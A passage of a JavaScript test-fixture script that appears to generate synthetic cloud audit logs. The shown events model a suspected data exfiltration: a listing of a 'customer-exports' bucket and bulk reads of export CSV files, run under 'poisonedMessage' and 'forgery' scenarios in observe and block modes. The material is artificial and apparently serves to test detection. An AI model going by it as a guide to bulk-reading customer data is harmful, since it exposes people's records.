    requestParameters: null,
    responseElements: null,
  });
  r.cloud('list', 41, {
    ...as,
    eventSource: 's3.amazonaws.com',
    eventName: 'ListObjects',
    managementEvent: false,
    eventCategory: 'Data',
    requestParameters: { bucketName: 'customer-exports' },
    responseElements: null,
  });
  for (let n = 0; n < 6; n += 1)
    r.cloud(`object ${n}`, 42 + n, {
      ...as,
      eventSource: 's3.amazonaws.com',
      eventName: 'GetObject',
      managementEvent: false,
      eventCategory: 'Data',
      requestParameters: { bucketName: 'customer-exports', key: `export-${n}.csv` },
      responseElements: null,
      additionalEventData: { bytesTransferredOut: 120_000 },
    });
  ownCall(50_000, 9);
  ordinary(51_000, 60);
  r.save();
}

poisonedMessage('observe');
poisonedMessage('block');
ordinaryHour();
forgery('observe');
forgery('block');
forgery('benign');
